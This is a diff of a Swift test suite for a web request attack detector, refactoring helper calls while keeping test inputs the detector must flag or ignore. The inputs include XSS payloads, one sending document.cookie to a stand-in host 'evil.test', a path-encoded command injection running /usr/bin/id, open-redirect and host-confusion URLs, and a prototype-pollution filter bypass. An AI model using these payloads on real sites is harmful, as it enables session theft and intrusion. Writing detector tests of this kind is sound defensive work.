@@ -7,53 +7,47 @@ import Testing
 /// entities), the raw request path, the request's host — each with a near miss that must stay quiet.
 /// The per-value rules have their lines in the corpus files ("External-corpus follow-up 3").
 @Suite struct ExternalFollowUpTests {
-    static let analyzer = Analyzer()
-
-    /// The hits of `line` placed like `RequestCorpus` places it (request host `api.example.com`).
-    static func hits(_ line: String) -> [Hit] { analyzer.analyze(RequestCorpus.record(line)).verdict.hits }
-
-    static func strongest(_ line: String, _ attackClass: AttackClass) -> Hit? {
-        hits(line).filter { $0.attackClass == attackClass }.max { $0.confidence < $1.confidence }
-    }
-
-    static func attack(_ line: String) -> Bool { analyzer.analyze(RequestCorpus.record(line)).verdict.attack }
-
     @Test func legacyEntitiesWithoutSemicolonAreDecoded() throws {
-        let hit = try #require(Self.strongest(#"[json] {"bio":"&ltsvg onload=alert(document.domain)&gt"}"#, .xss))
+        let hit = try #require(
+            RequestCorpus.strongest(#"[json] {"bio":"&ltsvg onload=alert(document.domain)&gt"}"#, .xss))
         #expect(hit.confidence >= 0.9)
-        let script = try #require(Self.strongest("[field:v] &ltscript&gtfetch('//evil.test/'+document.cookie)", .xss))
+        let script = try #require(
+            RequestCorpus.strongest("[field:v] &ltscript&gtfetch('//evil.test/'+document.cookie)", .xss))
         #expect(script.confidence >= 0.9)
         // Prose with ampersands that start legacy names stays prose.
-        #expect(!Self.attack("[field:note] AT&T and Q&A &copyright &notice &ltd pricing"))
-        #expect(!Self.attack(#"[json] {"text":"3 &lt 5 &amp&amp 5 &gt 3"}"#))
+        #expect(!RequestCorpus.attack("[field:note] AT&T and Q&A &copyright &notice &ltd pricing"))
+        #expect(!RequestCorpus.attack(#"[json] {"text":"3 &lt 5 &amp&amp 5 &gt 3"}"#))
     }
 
     @Test func rawPathIsReadWhole() throws {
-        let command = try #require(Self.strongest("[path] /api/v1/files/%0a/usr/bin/id%0a", .rce))
+        let command = try #require(RequestCorpus.strongest("[path] /api/v1/files/%0a/usr/bin/id%0a", .rce))
         #expect(command.confidence >= 0.8)
         #expect(command.location == "path")
         let markup = try #require(
-            Self.strongest("[path] /api/v1/items/%3Cimg%20src=&%23x6A;&%23x61;vascript&%2358;alert(1)%3E", .xss))
+            RequestCorpus.strongest(
+                "[path] /api/v1/items/%3Cimg%20src=&%23x6A;&%23x61;vascript&%2358;alert(1)%3E", .xss))
         #expect(markup.confidence >= 0.85)
         // Matrix parameters and encoded spaces in ordinary paths.
-        #expect(!Self.attack("[path] /api/v1/files/report%20q3.pdf;version=2/download"))
-        #expect(!Self.attack("[path] /docs/a%2Fb/c%3Bd/%3Cnotes%3E"))
+        #expect(!RequestCorpus.attack("[path] /api/v1/files/report%20q3.pdf;version=2/download"))
+        #expect(!RequestCorpus.attack("[path] /docs/a%2Fb/c%3Bd/%3Cnotes%3E"))
     }
 
     @Test func offsiteRedirectsAgainstTheRequestHost() throws {
-        let offsite = try #require(Self.strongest("[field:return_to] https://phish.test/signin", .openRedirect))
+        let offsite = try #require(
+            RequestCorpus.strongest("[field:return_to] https://phish.test/signin", .openRedirect))
         #expect(offsite.rule == "open_redirect.offsite_url")
         #expect(offsite.confidence >= 0.6)
         let confusing = try #require(
-            Self.strongest("[field:next] https://api.example.com.phish.test/", .openRedirect))
+            RequestCorpus.strongest("[field:next] https://api.example.com.phish.test/", .openRedirect))
         #expect(confusing.rule == "open_redirect.host_confusion")
-        let inQuery = try #require(Self.strongest("[field:goto] https://phish.test/?api.example.com", .openRedirect))
+        let inQuery = try #require(
+            RequestCorpus.strongest("[field:goto] https://phish.test/?api.example.com", .openRedirect))
         #expect(inQuery.rule == "open_redirect.host_confusion")
         // The same site, its subdomains, OAuth's redirect_uri and CAS's service stay quiet.
-        #expect(Self.strongest("[field:next] https://www.example.com/home", .openRedirect) == nil)
-        #expect(Self.strongest("[field:next] https://api.example.com/v1/me", .openRedirect) == nil)
-        #expect(Self.strongest("[field:redirect_uri] https://client.test/callback", .openRedirect) == nil)
-        #expect(Self.strongest("[field:service] https://intranet.test/app", .openRedirect) == nil)
+        #expect(RequestCorpus.strongest("[field:next] https://www.example.com/home", .openRedirect) == nil)
+        #expect(RequestCorpus.strongest("[field:next] https://api.example.com/v1/me", .openRedirect) == nil)
+        #expect(RequestCorpus.strongest("[field:redirect_uri] https://client.test/callback", .openRedirect) == nil)
+        #expect(RequestCorpus.strongest("[field:service] https://intranet.test/app", .openRedirect) == nil)
         // Without a request host (a value judged alone) a plain absolute URL is not evidence.
         #expect(
             OpenRedirectDetector.analyze(Array("https://phish.test/x".utf8)[...], fieldName: "next", source: .query)
@@ -89,9 +83,9 @@ import Testing
     }
 
     @Test func protoKeyThatSurvivesStripping() throws {
-        let hit = try #require(Self.strongest("[query] __pro__proto__to__[admin]=1", .prototypePollution))
+        let hit = try #require(RequestCorpus.strongest("[query] __pro__proto__to__[admin]=1", .prototypePollution))
         #expect(hit.rule == "prototype_pollution.filter_bypass")
-        #expect(!Self.attack("[query] my__proto__notes[x]=1"))
+        #expect(!RequestCorpus.attack("[query] my__proto__notes[x]=1"))
     }
 
     @Test func explainShowsTheNewReadings() {
